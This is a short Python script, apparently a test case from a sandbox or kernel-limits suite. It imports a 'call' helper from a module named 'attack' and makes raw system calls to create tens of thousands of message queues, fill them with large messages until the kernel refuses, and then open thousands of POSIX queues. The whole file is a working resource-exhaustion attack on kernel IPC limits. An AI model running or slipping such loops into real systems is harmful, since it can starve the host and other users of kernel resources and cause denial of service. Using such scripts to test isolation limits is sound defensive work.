import ctypes
from attack import call
for i in range(40000):
    queue, error = call(68, 186, 0, 0o1600)
    if error: break
    while call(69, 189, queue, ctypes.create_string_buffer(b"\1\0\0\0\0\0\0\0" + b"x" * 8000), 8000, 0o4000)[1] is None: pass
for i in range(5000):
    _, error = call(240, 180, b"queue%d" % i, 0o102, 0o600, None)
    if error: break
raise SystemExit(1)
